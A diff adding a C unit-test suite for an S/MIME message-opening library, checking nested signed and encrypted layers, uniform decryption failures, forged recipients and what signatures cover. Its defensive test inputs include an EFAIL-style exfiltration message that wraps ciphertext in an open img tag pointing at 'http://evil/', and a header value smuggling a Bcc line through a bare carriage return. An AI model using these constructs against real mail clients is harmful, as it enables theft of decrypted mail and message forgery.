@@ -1,0 +1,659 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+
+#include <stdio.h>
+#include <string.h>
+
+#include "tests/unit/smime/helpers.h"
+
+Suite *suite_layers(void);
+
+#define PLAIN "Content-Type: text/plain; charset=us-ascii\r\n\r\nhello\r\nworld\r\n"
+
+static struct person alice, bob;
+static const struct person *const to_bob[] = { &bob };
+static struct ring bobs = { .people = to_bob, .count = 1 };
+
+static void
+make_people(void)
+{
+	alice = person_make("alice@example.com", NULL);
+	bob = person_make("bob@example.com", "rsa-2048");
+}
+
+static void
+drop_people(void)
+{
+	person_done(&alice);
+	person_done(&bob);
+}
+
+/* A message made of layers, outermost last: 's' clear, 'o' opaque, 'c' CBC, 'g' GCM. */
+static struct buffer
+layered(const char *kinds, const char *innermost)
+{
+	struct buffer text = BUFFER_INIT(1 << 24), next;
+	struct error e = ERROR_INIT;
+
+	expect_ok(buffer_append_text(&text, innermost, &e));
+	for (; *kinds != '\0'; kinds++) {
+		if (*kinds == 's' || *kinds == 'o')
+			next = signed_by(&alice, buffer_text(&text), *kinds == 'o');
+		else
+			next = encrypted_to(to_bob, 1, *kinds == 'c' ? PROFILE_COMPATIBLE : PROFILE_MODERN, buffer_text(&text));
+		buffer_done(&text);
+		text = next;
+	}
+	return text;
+}
+
+struct opening {
+	struct buffer text;
+	struct message message;
+	struct smime_layers *layers;
+};
+
+static struct opening
+open_text(struct buffer take, struct ring *ring)
+{
+	struct opening o = { .text = take };
+
+	o.message = message_of(buffer_text(&o.text));
+	o.layers = opened(&o.message, ring);
+	return o;
+}
+
+static void
+opening_done(struct opening *o)
+{
+	layers_free(o->layers);
+	message_done(&o->message);
+	buffer_done(&o->text);
+}
+
+static bool
+is_content(const struct opening *o, const char *text)
+{
+	return o->layers->opened && is_span(o->layers->content, text);
+}
+
+/* ---- what is opened ---- */
+
+static const struct shape {
+	const char *kinds;     /* innermost first */
+	const char *sections;  /* of the signed layers, outermost first */
+	bool opened, unwrapped, authenticated, plain;
+} shapes[] = {
+	/* clang-format off */
+	{ "",     "",          false, false, true,  false },
+	{ "s",    "2",         false, false, true,  false },
+	{ "o",    "1",         false, false, true,  false },
+	{ "ss",   "2 1.2",     false, false, true,  false },
+	{ "os",   "2 1",       false, false, true,  false },
+	{ "oo",   "1 1/1",     false, false, true,  false },
+	{ "c",    "",          true,  false, false, true },
+	{ "g",    "",          true,  false, true,  true },
+	{ "sc",   "1/2",       true,  false, false, false },
+	{ "og",   "1/1",       true,  true,  true,  true },
+	{ "cs",   "2",         true,  false, false, true },
+	{ "go",   "1",         true,  false, true,  true },
+	{ "scs",  "2 1/2",     true,  false, false, false },
+	{ "oco",  "1 1/1/1",   true,  true,  false, true },
+	{ "gg",   "",          true,  false, true,  true },
+	{ "cg",   "",          true,  false, false, true },
+	{ "osc",  "1/2 1/1",   true,  true,  false, true },
+	{ "gsg",  "1/2",       true,  false, true,  true },
+	/* clang-format on */
+};
+
+static struct buffer
+sections(const struct smime_layers *layers)
+{
+	struct buffer out = BUFFER_INIT(1024);
+	struct error e = ERROR_INIT;
+
+	for (size_t i = 0; i < layers->count; i++)
+		if (layers->items[i].is_signed)
+			expect_ok(buffer_append_format(&out, &e, "%s%s", out.size > 0 ? " " : "", layers->items[i].section));
+	return out;
+}
+
+START_TEST(opens_layers_in_any_order)
+{
+	const struct shape *want = &shapes[_i];
+	struct opening o = open_text(layered(want->kinds, PLAIN), &bobs);
+	struct buffer found = sections(o.layers);
+
+	ck_assert_uint_eq(o.layers->count, strlen(want->kinds));
+	ck_assert_str_eq(buffer_text(&found), want->sections);
+	ck_assert_int_eq(o.layers->opened, want->opened);
+	ck_assert_int_eq(o.layers->unwrapped, want->unwrapped);
+	ck_assert_int_eq(o.layers->authenticated, want->authenticated);
+	ck_assert_ptr_null(o.layers->failure);
+	ck_assert_int_eq(is_content(&o, PLAIN), want->plain);
+	for (size_t i = 0; i < o.layers->count; i++) {
+		const struct smime_layer *layer = &o.layers->items[i];
+
+		ck_assert_int_eq(layer->encrypted, layer->opened);
+		if (layer->is_signed) {
+			ck_assert_int_eq(layer->signature.status, SIGNATURE_VALID);
+			ck_assert_ptr_null(layer->structure);
+			ck_assert_str_eq(certificate_fingerprint(layer->signature.signer), certificate_fingerprint(alice.forged.c));
+		} else {
+			ck_assert_str_eq(layer->identity, bob.identity);
+			ck_assert_str_eq(layer->key_id, "key-0");
+		}
+	}
+	buffer_done(&found);
+	opening_done(&o);
+}
+END_TEST
+
+START_TEST(keeps_a_clear_signature_that_was_inside)
+{
+	struct buffer inner = layered("s", PLAIN);
+	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);
+
+	ck_assert(is_content(&o, buffer_text(&inner)));
+	ck_assert_int_eq(smime_recognise(o.layers->entity), SMIME_CLEAR_SIGNED);
+	opening_done(&o);
+	buffer_done(&inner);
+}
+END_TEST
+
+START_TEST(takes_off_an_opaque_layer_whose_signature_is_bad)
+{
+	struct buffer inner = layered("o", PLAIN);
+	struct message m = message_of(buffer_text(&inner));
+	struct buffer der = content_of(m.root), bad;
+	struct opening o;
+
+	der.data[der.size - 1] ^= 1; /* within the signature */
+	bad = wrapped(&der, "signed-data");
+	o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&bad)), &bobs);
+	ck_assert_int_eq(o.layers->items[1].signature.status, SIGNATURE_INVALID);
+	ck_assert(is_content(&o, PLAIN));
+	opening_done(&o);
+	buffer_done(&bad);
+	buffer_done(&der);
+	message_done(&m);
+	buffer_done(&inner);
+}
+END_TEST
+
+START_TEST(stops_at_more_layers_than_any_honest_message_has)
+{
+	struct opening at_bound = open_text(layered("gggggggg", PLAIN), &bobs);
+	struct opening past_it = open_text(layered("ggggggggg", PLAIN), &bobs);
+
+	ck_assert(is_content(&at_bound, PLAIN));
+	ck_assert(!past_it.layers->opened);
+	ck_assert_str_eq(past_it.layers->failure, "too-many-layers");
+	opening_done(&at_bound);
+	opening_done(&past_it);
+}
+END_TEST
+
+/* ---- what stays closed ---- */
+
+START_TEST(does_not_look_for_encrypted_parts_within_a_message)
+{
+	/* Direct exfiltration: an open quote, the ciphertext, the end of the quote (EFAIL). */
+	struct buffer secret = layered("c", PLAIN), text = BUFFER_INIT(1 << 20);
+	struct error e = ERROR_INIT;
+	struct opening o;
+	struct ring ring = bobs;
+
+	expect_ok(buffer_append_format(&text, &e,
+	    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n"
+	    "--x\r\n%s\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n",
+	    buffer_text(&secret)));
+	o = open_text(text, &ring);
+	ck_assert_uint_eq(o.layers->count, 0);
+	ck_assert_uint_eq(ring.calls, 0);
+	opening_done(&o);
+	buffer_done(&secret);
+}
+END_TEST
+
+START_TEST(stays_closed_when_no_key_is_given_and_says_why)
+{
+	struct ring nobody = { .reason = "not-yours" }, other = { .people = to_bob, .count = 0 };
+	struct opening o = open_text(layered("sc", PLAIN), &nobody);
+
+	ck_assert(!o.layers->opened && !o.layers->items[0].tried);
+	ck_assert_uint_eq(o.layers->count, 1);
+	ck_assert_str_eq(o.layers->items[0].closed_reason, "not-yours");
+	opening_done(&o);
+	o = open_text(layered("c", PLAIN), &other);
+	ck_assert_str_eq(o.layers->items[0].closed_reason, "no-key");
+	opening_done(&o);
+}
+END_TEST
+
+/* Everything that can be wrong behind a key, each made from a good object. */
+enum wrong { BAD_KEY, BAD_PADDING, BAD_TAG, BAD_CIPHERTEXT, BAD_INNER, WRONG_COUNT };
+
+static struct buffer
+broken(enum wrong wrong)
+{
+	bool cbc = wrong != BAD_TAG && wrong != BAD_CIPHERTEXT;
+	struct buffer der = encrypted_der(to_bob, 1, cbc ? PROFILE_COMPATIBLE : PROFILE_MODERN,
+	    wrong == BAD_INNER ? "nothing that looks like an entity" : PLAIN);
+	struct memory_source memory;
+	struct source source = memory_source(&memory, der.data, der.size);
+	struct cms_shape *shape = NULL;
+	struct error e = ERROR_INIT;
+	char *encrypted_key;
+	struct buffer text;
+
+	expect_ok(cms_walk(&source, NULL, &shape, &e));
+	encrypted_key = memmem(der.data, der.size, shape->recipients[0].encrypted_key.data, shape->recipients[0].encrypted_key.size);
+	ck_assert_ptr_nonnull(encrypted_key);
+	if (wrong == BAD_KEY)
+		encrypted_key[20] ^= 1;
+	else if (wrong == BAD_PADDING)
+		der.data[der.size - 17] ^= (char)0x80; /* flips a bit of the last padding octet */
+	else if (wrong == BAD_TAG)
+		der.data[der.size - 1] ^= 1;
+	else if (wrong == BAD_CIPHERTEXT)
+		der.data[der.size - 20] ^= 1;
+	cms_shape_free(shape);
+	text = wrapped(&der, cbc ? "enveloped-data" : "authEnveloped-data");
+	buffer_done(&der);
+	return text;
+}
+
+START_TEST(fails_alike_whatever_is_wrong_behind_the_key)
+{
+	struct opening o = open_text(broken((enum wrong)_i), &bobs);
+
+	ck_assert(o.layers->items[0].tried);
+	ck_assert(!o.layers->items[0].opened && !o.layers->opened);
+	ck_assert_str_eq(o.layers->items[0].closed_reason, "unreadable");
+	ck_assert_str_eq(o.layers->failure, "unreadable");
+	ck_assert_ptr_null(o.layers->entity);
+	ck_assert_uint_eq(o.layers->content.size, 0);
+	opening_done(&o);
+}
+END_TEST
+
+START_TEST(closes_the_whole_message_when_an_inner_layer_fails)
+{
+	struct buffer inner = broken((enum wrong)_i);
+	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);
+
+	ck_assert(o.layers->items[0].opened && !o.layers->items[1].opened);
+	ck_assert(!o.layers->opened);
+	ck_assert_str_eq(o.layers->failure, "unreadable");
+	opening_done(&o);
+	buffer_done(&inner);
+}
+END_TEST
+
+START_TEST(delivers_an_inner_layer_that_is_for_somebody_else)
+{
+	const struct person *to_alice[] = { &alice };
+	struct buffer inner = encrypted_to(to_alice, 1, PROFILE_MODERN, PLAIN);
+	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);
+
+	ck_assert(is_content(&o, buffer_text(&inner)));
+	ck_assert_str_eq(o.layers->items[1].closed_reason, "no-key");
+	opening_done(&o);
+	buffer_done(&inner);
+}
+END_TEST
+
+static const char *const no_entities[] = {
+	"",
+	"\r\nno header at all\r\n",
+	"hello\r\n",
+	"X-Unknown: 1\r\n\r\nhello\r\n",
+	"Content-Type: text/plain\r\nno blank line",
+	"Content-Type: text/plain\r\n",
+	"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nhello\r\n",
+	"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\nhello\r\n",
+	"Content-Type: text/plain; x=\001\r\n\r\nhello\r\n",
+	"Content-Type: text/plain; x=a\rBcc: evil@example.com\r\n\r\nhello\r\n",
+	"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nnot closed\r\n",
+	"Content-Type: multipart/mixed; boundary=x\r\n\r\nno delimiter\r\n",
+	"Content-Type: multipart/mixed; boundary=x; boundary=y\r\n\r\n--x\r\n\r\na\r\n--x--\r\n",
+	"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\na\r\n--x--\r\n",
+};
+
+START_TEST(opens_nothing_but_one_well_formed_entity)
+{
+	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, no_entities[_i]), &bobs);
+
+	ck_assert_msg(!o.layers->opened, "%s", no_entities[_i]);
+	ck_assert_str_eq(o.layers->failure, "unreadable");
+	opening_done(&o);
+}
+END_TEST
+
+static const char *const entities[] = {
+	PLAIN,
+	"Subject: old software\r\n\r\nhello\r\n",
+	"Content-Type: text/plain\n\nonly LF\n",
+	"MIME-Version: 1.0\r\n\r\n",
+	"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n"
+	"Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nan attached mail may be odd\r\n--x--\r\n",
+};
+
+START_TEST(opens_what_real_software_writes)
+{
+	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, entities[_i]), &bobs);
+
+	ck_assert_msg(is_content(&o, entities[_i]), "%s", entities[_i]);
+	opening_done(&o);
+}
+END_TEST
+
+START_TEST(does_not_open_below_an_ambiguous_header)
+{
+	struct buffer text = layered("c", PLAIN), doubled = BUFFER_INIT(1 << 20);
+	struct error e = ERROR_INIT;
+	struct opening o;
+	struct ring ring = bobs;
+
+	expect_ok(buffer_append_format(&doubled, &e, "%.*s%s", 41, "Content-Type: application/pkcs7-mime; a=b\r\n", "\r\n"));
+	expect_ok(buffer_append(&doubled, text.data, text.size, &e));
+	o = open_text(doubled, &ring);
+	ck_assert(!o.layers->opened);
+	ck_assert_uint_eq(ring.calls, 0);
+	opening_done(&o);
+	buffer_done(&text);
+}
+END_TEST
+
+/* ---- several owners ---- */
+
+START_TEST(opens_for_two_owners_only_what_was_encrypted_to_both)
+{
+	const struct person *both[] = { &bob, &alice };
+	struct ring ring = { .people = both, .count = 2 };
+	struct opening o = open_text(encrypted_to(both, 2, (enum crypto_profile)_i, PLAIN), &ring);
+
+	ck_assert(is_content(&o, PLAIN));
+	opening_done(&o);
+}
+END_TEST
+
+START_TEST(does_not_open_for_an_owner_whose_recipient_info_was_made_up)
+{
+	struct person carol = person_make("carol@example.com", "rsa-2048");
+	const struct person *both[] = { &bob, &carol };
+	struct ring ring = { .people = both, .count = 2 };
+	struct buffer der = encrypted_der(both, 2, (enum crypto_profile)_i, PLAIN), text;
+	struct memory_source memory;
+	struct source source = memory_source(&memory, der.data, der.size);
+	struct cms_shape *shape = NULL;
+	struct error e = ERROR_INIT;
+	struct opening o;
+	char *forged;
+
+	expect_ok(cms_walk(&source, NULL, &shape, &e));
+	forged = memmem(der.data, der.size, shape->recipients[1].encrypted_key.data, shape->recipients[1].encrypted_key.size);
+	forged[30] ^= 1;
+	cms_shape_free(shape);
+	text = wrapped(&der, "enveloped-data");
+	o = open_text(text, &ring);
+	ck_assert(!o.layers->opened && !o.layers->items[0].opened);
+	ck_assert_str_eq(o.layers->failure, "not-every-recipient-can-open-it");
+	opening_done(&o);
+	buffer_done(&der);
+	person_done(&carol);
+}
+END_TEST
+
+/* ---- faults ---- */
+
+START_TEST(reports_a_fault_before_any_key_was_tried)
+{
+	struct ring ring = { .people = to_bob, .count = 1, .fault = ERROR_STORE, .fault_at = 1 };
+	struct buffer text = layered("g", PLAIN);
+	struct message m = message_of(buffer_text(&text));
+	const struct layer_keys keys = ring_keys(&ring);
+	struct smime_layers *layers = NULL;
+	struct error e = ERROR_INIT;
+
+	expect_error(layers_open(m.root, &keys, &workspace, NULL, &layers, &e), ERROR_STORE);
+	ck_assert_ptr_null(layers);
+	message_done(&m);
+	buffer_done(&text);
+}
+END_TEST
+
+START_TEST(hides_a_fault_once_a_key_was_tried)
+{
+	struct ring ring = { .people = to_bob, .count = 1, .fault = ERROR_STORE, .fault_at = 2 };
+	struct opening o = open_text(layered("gg", PLAIN), &ring);
+
+	ck_assert_uint_eq(ring.calls, 2);
+	ck_assert(!o.layers->opened);
+	ck_assert_str_eq(o.layers->failure, "fault");
+	opening_done(&o);
+}
+END_TEST
+
+/* ---- what a signature covers ---- */
+
+/* A clear-signed text with something put in place of something else. */
+static struct buffer
+edited(const char *kinds, const char *from, const char *to)
+{
+	struct buffer text = layered(kinds, PLAIN), out = BUFFER_INIT(1 << 20);
+	const char *at = strstr(buffer_text(&text), from);
+	struct error e = ERROR_INIT;
+
+	ck_assert_ptr_nonnull(at);
+	expect_ok(buffer_append_format(&out, &e, "%.*s%s%s", (int)(at - text.data), text.data, to, at + strlen(from)));
+	buffer_done(&text);
+	return out;
+}
+
+static void
+expect_uncovered(struct buffer take, const char *structure)
+{
+	struct opening o = open_text(take, &bobs);
+
+	ck_assert_uint_ge(o.layers->count, 1);
+	if (structure == NULL)
+		ck_assert_msg(o.layers->items[0].structure == NULL, "%s", o.layers->items[0].structure);
+	else
+		ck_assert_msg(o.layers->items[0].structure != NULL && strcmp(o.layers->items[0].structure, structure) == 0,
+		    "%s instead of %s", o.layers->items[0].structure, structure);
+	opening_done(&o);
+}
+
+START_TEST(sees_what_a_clear_signature_does_not_cover)
+{
+	struct buffer appended = layered("s", PLAIN);
+	struct error e = ERROR_INIT;
+
+	expect_ok(buffer_append_text(&appended, "buy at evil.example\r\n", &e));
+	expect_uncovered(appended, "text-outside-parts");
+	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nbuy at evil.example\r\n--"), "text-outside-parts");
+	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\n \t\r\n--"), NULL);
+	expect_uncovered(edited("s", "\r\n\r\n--", "\r\nContent-Type: text/html\r\n\r\n--"), "ambiguous-structure");
+	expect_uncovered(edited("s", "; boundary=", "; boundary=other; boundary="), "ambiguous-structure");
+	expect_uncovered(edited("s", "Content-Type: multipart", "Content-Transfer-Encoding: base64\r\nContent-Type: multipart"),
+	    "encoded-multipart");
+}
+END_TEST
+
+START_TEST(sees_a_third_part)
+{
+	struct buffer text = layered("s", PLAIN);
+	char *boundary = strstr(text.data, "\r\n\r\n--") + 6, line[128];
+	struct buffer out = BUFFER_INIT(1 << 20);
+	struct error e = ERROR_INIT;
+	struct opening o;
+
+	(void)snprintf(line, sizeof(line), "%.*s", (int)strcspn(boundary, "\r"), boundary);
+	expect_ok(buffer_append_format(&out, &e, "%.*s--%s\r\n\r\nbuy at evil.example\r\n%s", (int)(boundary - 2 - text.data),
+	    text.data, line, boundary - 2));
+	o = open_text(out, &bobs);
+	ck_assert_str_eq(o.layers->items[0].structure, "not-two-parts");
+	opening_done(&o);
+	buffer_done(&text);
+}
+END_TEST
+
+START_TEST(sees_changed_content)
+{
+	struct opening o = open_text(edited("s", "hello", "HELLO"), &bobs);
+
+	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_DIGEST_DIFFERS);
+	ck_assert_ptr_null(o.layers->items[0].structure);
+	opening_done(&o);
+}
+END_TEST
+
+START_TEST(refuses_a_detached_signature_that_carries_content_of_its_own)
+{
+	/* eContent confusion: the CMS verifies over its own text, the part says something else. */
+	struct buffer opaque = layered("o", PLAIN), text = BUFFER_INIT(1 << 20);
+	char *base64 = strstr(opaque.data, "\r\n\r\n") + 4;
+	struct error e = ERROR_INIT;
+	struct opening o;
+
+	expect_ok(buffer_append_format(&text, &e,
+	    "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=x\r\n\r\n--x\r\n"
+	    "Content-Type: text/plain\r\n\r\nsend the money to evil\r\n\r\n--x\r\nContent-Type: application/pkcs7-signature\r\n"
+	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--x--\r\n",
+	    base64));
+	o = open_text(text, &bobs);
+	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_MALFORMED);
+	opening_done(&o);
+	buffer_done(&opaque);
+}
+END_TEST
+
+START_TEST(refuses_a_detached_signature_where_content_must_be)
+{
+	struct buffer clear = layered("s", PLAIN), der, text;
+	struct message m = message_of(buffer_text(&clear));
+	struct opening o;
+
+	der = content_of(m.root->parts[1]);
+	text = wrapped(&der, "signed-data");
+	o = open_text(text, &bobs);
+	ck_assert(o.layers->items[0].is_signed);
+	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_MALFORMED);
+	opening_done(&o);
+	buffer_done(&der);
+	message_done(&m);
+	buffer_done(&clear);
+}
+END_TEST
+
+START_TEST(reads_rubbish_under_every_label_without_harm)
+{
+	static const char *const rubbish[] = {
+		"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nrubbish\r\n",
+		"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqG\r\n",
+		"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n",
+		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n",
+		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x--\r\n",
+		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\r\nb\r\n--x--\r\n",
+	};
+
+	for (size_t i = 0; i < sizeof(rubbish) / sizeof(rubbish[0]); i++) {
+		struct message m = message_of(rubbish[i]);
+		struct smime_layers *layers = opened(&m, &bobs);
+
+		ck_assert_uint_eq(layers->count, 1);
+		ck_assert(!layers->opened);
+		if (layers->items[0].is_signed)
+			ck_assert_int_eq(layers->items[0].signature.status, SIGNATURE_MALFORMED);
+		else
+			ck_assert_str_eq(layers->items[0].closed_reason, "malformed");
+		layers_free(layers);
+		message_done(&m);
+	}
+}
+END_TEST
+
+START_TEST(reads_every_truncation_without_harm)
+{
+	struct buffer text = layered("sc", PLAIN);
+
+	for (size_t n = 0; n < text.size; n += n < 400 ? 1 : 41) {
+		struct message m;
+		struct error e = ERROR_INIT;
+
+		if (message_open(&m, text.data, n, &e) != 0)
+			continue;
+		layers_free(opened(&m, &bobs));
+		message_done(&m);
+	}
+	buffer_done(&text);
+}
+END_TEST
+
+static int
+open_once(void *ctx, struct error *e)
+{
+	const struct message *m = ctx;
+	struct ring nobody = { .reason = "none" };
+	const struct layer_keys keys = ring_keys(&nobody);
+	struct smime_layers *layers = NULL;
+	int rc = layers_open(m->root, &keys, &workspace, NULL, &layers, e);
+
+	layers_free(layers);
+	return rc;
+}
+
+START_TEST(survives_want_of_memory_anywhere)
+{
+	struct buffer text = layered("os", PLAIN);
+	struct message m = message_of(buffer_text(&text));
+
+	each_allocation_fails(open_once, &m);
+	message_done(&m);
+	buffer_done(&text);
+}
+END_TEST
+
+#define LOOP(t, test, table) tcase_add_loop_test((t), test, 0, sizeof(table) / sizeof((table)[0]))
+
+Suite *
+suite_layers(void)
+{
+	Suite *s = suite_create("layers");
+	TCase *t = tcase_create("open");
+
+	tcase_add_checked_fixture(t, make_people, drop_people);
+	LOOP(t, opens_layers_in_any_order, shapes);
+	tcase_add_test(t, keeps_a_clear_signature_that_was_inside);
+	tcase_add_test(t, takes_off_an_opaque_layer_whose_signature_is_bad);
+	tcase_add_test(t, stops_at_more_layers_than_any_honest_message_has);
+	tcase_add_test(t, delivers_an_inner_layer_that_is_for_somebody_else);
+	LOOP(t, opens_what_real_software_writes, entities);
+	tcase_add_loop_test(t, opens_for_two_owners_only_what_was_encrypted_to_both, 0, PROFILE_COUNT);
+	suite_add_tcase(s, t);
+	t = tcase_create("closed");
+	tcase_add_checked_fixture(t, make_people, drop_people);
+	tcase_add_test(t, does_not_look_for_encrypted_parts_within_a_message);
+	tcase_add_test(t, stays_closed_when_no_key_is_given_and_says_why);
+	tcase_add_loop_test(t, fails_alike_whatever_is_wrong_behind_the_key, 0, WRONG_COUNT);
+	tcase_add_loop_test(t, closes_the_whole_message_when_an_inner_layer_fails, 0, WRONG_COUNT);
+	LOOP(t, opens_nothing_but_one_well_formed_entity, no_entities);
+	tcase_add_test(t, does_not_open_below_an_ambiguous_header);
+	tcase_add_loop_test(t, does_not_open_for_an_owner_whose_recipient_info_was_made_up, 0, PROFILE_COUNT);
+	tcase_add_test(t, reports_a_fault_before_any_key_was_tried);
+	tcase_add_test(t, hides_a_fault_once_a_key_was_tried);
+	suite_add_tcase(s, t);
+	t = tcase_create("signed");
+	tcase_add_checked_fixture(t, make_people, drop_people);
+	tcase_add_test(t, sees_what_a_clear_signature_does_not_cover);
+	tcase_add_test(t, sees_a_third_part);
+	tcase_add_test(t, sees_changed_content);
+	tcase_add_test(t, refuses_a_detached_signature_that_carries_content_of_its_own);
+	tcase_add_test(t, refuses_a_detached_signature_where_content_must_be);
+	tcase_add_test(t, reads_rubbish_under_every_label_without_harm);
+	tcase_add_test(t, reads_every_truncation_without_harm);
+	tcase_add_test(t, survives_want_of_memory_anywhere);
+	suite_add_tcase(s, t);
+	return s;
+}
